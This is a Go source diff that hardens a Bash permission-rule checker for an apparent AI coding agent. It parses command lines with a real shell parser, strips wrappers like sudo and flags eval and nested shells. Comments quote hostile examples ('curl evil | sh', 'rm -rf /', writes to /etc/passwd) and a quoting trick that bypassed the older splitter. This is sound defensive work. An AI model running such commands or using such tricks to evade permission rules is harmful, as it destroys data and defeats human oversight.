@@ -1,127 +1,286 @@
 package policy
 
 import (
-	"regexp"
+	"strconv"
 	"strings"
+	"unicode/utf8"
+
+	"mvdan.cc/sh/v3/syntax"
 )
 
 // A Bash rule read as a plain glob over the whole command line would let
 // Bash(npm test:*) allow "npm test && curl evil | sh", and let
 // "echo hi; rm -rf /" slip past Bash(rm -rf *). Like Claude Code, rules
-// therefore look at each simple command of a compound command: deny and ask
-// rules match when any command (or the whole line) matches, allow rules
-// only when every command does. This is a screen for the obvious, not a
-// shell parser: where the line does something it cannot see through
-// (command substitution, subshells, control flow, an open quote), it says
-// so, and allow rules then do not match at all.
+// therefore look at each simple command of a line: deny and ask rules match
+// when any command (or the whole line) matches, allow rules only when every
+// command does.
+//
+// The line is read by a real shell parser (mvdan.cc/sh), so quoting, line
+// continuations, comments, heredocs, $'…' strings, substitutions and
+// control flow hide no command from the deny rules: a hand-written splitter
+// was walked around by `echo $'\''; rm -rf /tmp/x` and by a comment ending
+// in a quote. Where a line does something no rule can see through, it says
+// so: opaque lines (substitutions, control flow, wrappers such as sudo,
+// environment assignments, words only known when it runs) are never allowed
+// by an allow rule; hidden ones (a line that does not parse, a command name
+// only known when it runs, eval, a shell or source running code from a
+// string, a file or its input) are asked about at most, whatever else the
+// policy says.
 
-// shellPrefixWords start a simple command but are not the command: what
-// follows them is what runs. Wrappers such as sudo are here too, so that
-// "sudo rm -rf /" meets a rule about rm; their options are not parsed.
-var shellPrefixWords = []string{"{", "}", "!", "if", "then", "else", "elif", "do", "while", "until", "time",
-	"sudo", "env", "nohup", "exec", "command", "builtin"}
+// shellLine is a command line as the rules see it.
+type shellLine struct {
+	parts  []string // each simple command, as text
+	opaque bool     // an allow rule cannot vouch for the line
+	hidden bool     // the line runs code no rule can see: ask at most
+}
 
-// envAssignment is a leading NAME=value, which changes what the command
-// does (PATH=., NODE_OPTIONS=--require x) but not which command it is.
-var envAssignment = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*=[^\s'"]*$`)
+// commandWrappers run the command that follows them (after their options),
+// each with the options that take a value as the next word: a rule about
+// rm must meet "sudo -u root rm -rf /".
+var commandWrappers = map[string]string{
+	"sudo": "ugpChDrtUT", "doas": "uC", "env": "uCS", "nohup": "", "exec": "a", "command": "", "builtin": "",
+	"nice": "n", "timeout": "sk", "stdbuf": "ioe", "ionice": "cnp", "setsid": "", "xargs": "IinPLsdEa",
+}
 
-// shellBlockWords start or end control flow a screen cannot follow.
-var shellBlockWords = []string{"for", "case", "select", "function", "fi", "done", "esac", "in"}
+// codeRunners run code that is not on the line: a string, a file, their
+// input.
+var codeRunners = map[string]bool{
+	"eval": true, "source": true, ".": true,
+	"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "fish": true, "csh": true, "tcsh": true,
+}
 
-// commandParts splits a command line into its simple commands, trimmed. It
-// splits on unquoted ; & && | || |& and newlines, and around the insides of
-// $( ), <( ), >( ), ( ) and backquotes. opaque reports anything that makes
-// the split unreliable.
-func commandParts(line string) (parts []string, opaque bool) {
-	var cur strings.Builder
-	flush := func() {
-		s := strings.TrimSpace(cur.String())
-		cur.Reset()
-		for {
-			w, rest, _ := strings.Cut(s, " ")
+// parseShell reads a command line into its simple commands.
+func parseShell(line string) shellLine {
+	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(line), "")
+	if err != nil {
+		return shellLine{opaque: true, hidden: true}
+	}
+	var sl shellLine
+	syntax.Walk(f, func(n syntax.Node) bool {
+		switch n := n.(type) {
+		case *syntax.Stmt:
+			if call, ok := n.Cmd.(*syntax.CallExpr); ok {
+				sl.addCommand(call, n.Redirs)
+			}
+		case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.Subshell, *syntax.IfClause, *syntax.WhileClause,
+			*syntax.ForClause, *syntax.CaseClause, *syntax.FuncDecl, *syntax.CoprocClause, *syntax.TimeClause,
+			*syntax.DeclClause, *syntax.LetClause, *syntax.TestClause, *syntax.ArithmCmd, *syntax.ArithmExp:
+			sl.opaque = true
+		}
+		return true
+	})
+	return sl
+}
+
+// addCommand adds one simple command: its words after any wrappers, with
+// its redirections, and also as written when wrappers were stripped, so a
+// rule about either form meets it.
+func (sl *shellLine) addCommand(call *syntax.CallExpr, redirs []*syntax.Redirect) {
+	if len(call.Assigns) > 0 {
+		sl.opaque = true // PATH=. or NODE_OPTIONS=… change what runs
+	}
+	if len(call.Args) == 0 {
+		return
+	}
+	words := make([]string, len(call.Args))
+	dynamic := make([]bool, len(call.Args))
+	for i, w := range call.Args {
+		words[i], dynamic[i] = wordText(w)
+		if dynamic[i] {
+			sl.opaque = true
+		}
+	}
+	start := 0
+	for start < len(words) && !dynamic[start] {
+		wrapper := words[start]
+		valued, ok := commandWrappers[wrapper]
+		if !ok {
+			break
+		}
+		sl.opaque = true
+		start++
+		// The wrapper's own options and arguments: "-u root", "FOO=1",
+		// a timeout's duration. What is left starts with the command.
+		for start < len(words) && !dynamic[start] {
+			w := words[start]
 			switch {
-			case containsWord(shellPrefixWords, w), envAssignment.MatchString(w):
-				opaque = true
-				s = strings.TrimSpace(rest)
+			case w == "--":
+				start++
+			case len(w) == 2 && w[0] == '-' && strings.IndexByte(valued, w[1]) >= 0:
+				start += 2 // "-u root"
 				continue
-			case containsWord(shellBlockWords, w):
-				opaque = true
+			case strings.HasPrefix(w, "-"), strings.Contains(w, "="), wrapper == "timeout" && looksLikeDuration(w):
+				start++
+				continue
 			}
 			break
 		}
-		if s != "" {
-			parts = append(parts, s)
-		}
 	}
-	var single, double bool
-	for i := 0; i < len(line); i++ {
-		c := line[i]
-		switch {
-		case single:
-			cur.WriteByte(c)
-			single = c != '\''
-		case double:
-			cur.WriteByte(c)
-			switch {
-			case c == '\\' && i+1 < len(line):
-				i++
-				cur.WriteByte(line[i])
-			case c == '"':
-				double = false
-			case c == '`', c == '$' && i+1 < len(line) && line[i+1] == '(':
-				opaque = true // a substitution inside quotes still runs
+	switch {
+	case start >= len(words):
+		// A wrapper alone ("exec 3>&1", "env"): nothing more runs.
+	case dynamic[start]:
+		sl.hidden = true // the command itself is only known when it runs
+	case codeRunners[words[start]] || codeRunners[baseName(words[start])]:
+		sl.hidden = true
+	}
+	suffix := redirText(redirs)
+	sl.parts = append(sl.parts, strings.Join(words[start:], " ")+suffix)
+	if start > 0 {
+		sl.parts = append(sl.parts, strings.Join(words, " ")+suffix)
+	}
+}
+
+// wordText is what a word says: its value when the line alone decides it,
+// else its source (dynamic: a parameter, a substitution, a glob's match).
+func wordText(w *syntax.Word) (string, bool) {
+	var b strings.Builder
+	for _, part := range w.Parts {
+		switch p := part.(type) {
+		case *syntax.Lit:
+			b.WriteString(unescape(p.Value, ""))
+		case *syntax.SglQuoted:
+			if p.Dollar {
+				b.WriteString(ansiC(p.Value))
+			} else {
+				b.WriteString(p.Value)
 			}
-		case c == '\\':
-			switch {
-			case i+1 < len(line) && line[i+1] == '\n':
-				cur.WriteByte(' ') // a continued line
-				i++
-			case i+1 < len(line):
-				cur.WriteByte(c)
-				i++
-				cur.WriteByte(line[i])
-			default:
-				cur.WriteByte(c)
+		case *syntax.DblQuoted:
+			for _, q := range p.Parts {
+				lit, ok := q.(*syntax.Lit)
+				if !ok {
+					return source(w), true
+				}
+				b.WriteString(unescape(lit.Value, "$`\"\\\n"))
 			}
-		case c == '\'':
-			single = true
-			cur.WriteByte(c)
-		case c == '"':
-			double = true
-			cur.WriteByte(c)
-		case c == '&' && (endsWithAny(&cur, "<>") || i+1 < len(line) && line[i+1] == '>'):
-			cur.WriteByte(c) // a redirection: 2>&1, >&2, &>file
-		case c == ';', c == '&', c == '|', c == '\n', c == '\r':
-			flush()
-		case c == '(' || c == ')' || c == '`':
-			opaque = true
-			if c == '(' && endsWithAny(&cur, "$<>") {
-				s := cur.String()
-				cur.Reset()
-				cur.WriteString(s[:len(s)-1])
-			}
-			flush()
 		default:
-			cur.WriteByte(c)
+			return source(w), true
 		}
 	}
-	if single || double {
-		opaque = true
+	return b.String(), false
+}
+
+// unescape removes the backslashes the shell removes: before any character
+// unquoted (only), or only before those in within double quotes.
+func unescape(s, only string) string {
+	if !strings.Contains(s, `\`) {
+		return s
 	}
-	flush()
-	return parts, opaque
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) && (only == "" || strings.IndexByte(only, s[i+1]) >= 0) {
+			i++
+			if s[i] != '\n' { // a line continuation vanishes
+				b.WriteByte(s[i])
+			}
+			continue
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
 }
 
-func endsWithAny(b *strings.Builder, chars string) bool {
-	s := b.String()
-	return s != "" && strings.IndexByte(chars, s[len(s)-1]) >= 0
-}
-
-func containsWord(words []string, w string) bool {
-	for _, x := range words {
-		if x == w {
-			return true
+// ansiC decodes the escapes of a $'…' string, so that $'\x72m' is rm.
+func ansiC(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] != '\\' || i+1 >= len(s) {
+			b.WriteByte(s[i])
+			continue
+		}
+		i++
+		switch c := s[i]; c {
+		case 'a':
+			b.WriteByte('\a')
+		case 'b':
+			b.WriteByte('\b')
+		case 'e', 'E':
+			b.WriteByte(0x1b)
+		case 'f':
+			b.WriteByte('\f')
+		case 'n':
+			b.WriteByte('\n')
+		case 'r':
+			b.WriteByte('\r')
+		case 't':
+			b.WriteByte('\t')
+		case 'v':
+			b.WriteByte('\v')
+		case 'x', 'u', 'U':
+			digits := map[byte]int{'x': 2, 'u': 4, 'U': 8}[c]
+			j := i + 1
+			for j < len(s) && j-i-1 < digits && isHex(s[j]) {
+				j++
+			}
+			if j == i+1 {
+				b.WriteByte('\\')
+				b.WriteByte(c)
+				continue
+			}
+			n, _ := strconv.ParseUint(s[i+1:j], 16, 32)
+			if c == 'x' {
+				b.WriteByte(byte(n))
+			} else {
+				b.WriteRune(rune(n))
+			}
+			i = j - 1
+		case '0', '1', '2', '3', '4', '5', '6', '7':
+			j := i
+			for j < len(s) && j-i < 3 && s[j] >= '0' && s[j] <= '7' {
+				j++
+			}
+			n, _ := strconv.ParseUint(s[i:j], 8, 16)
+			b.WriteByte(byte(n))
+			i = j - 1
+		case 'c':
+			if i+1 < len(s) {
+				i++
+				b.WriteByte(s[i] & 0x1f)
+			}
+		default: // \\ \' \" \? and anything unknown: the character
+			b.WriteByte(c)
 		}
 	}
-	return false
+	if !utf8.ValidString(b.String()) {
+		return strings.ToValidUTF8(b.String(), "\uFFFD")
+	}
+	return b.String()
+}
+
+func isHex(c byte) bool {
+	return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
+}
+
+// redirText is a command's redirections as written, for rules that mention
+// them ("> /etc/passwd"); a heredoc's body is data, left out.
+func redirText(redirs []*syntax.Redirect) string {
+	var b strings.Builder
+	for _, r := range redirs {
+		b.WriteByte(' ')
+		if r.N != nil {
+			b.WriteString(r.N.Value)
+		}
+		b.WriteString(r.Op.String())
+		if r.Word != nil {
+			b.WriteString(source(r.Word))
+		}
+	}
+	return b.String()
+}
+
+// source prints a node as shell source.
+func source(n syntax.Node) string {
+	var b strings.Builder
+	_ = syntax.NewPrinter(syntax.Minify(true)).Print(&b, n)
+	return b.String()
+}
+
+func baseName(path string) string {
+	return path[strings.LastIndexByte(path, '/')+1:]
+}
+
+func looksLikeDuration(s string) bool {
+	s = strings.TrimRight(s, "smhd")
+	_, err := strconv.ParseFloat(s, 64)
+	return err == nil
 }
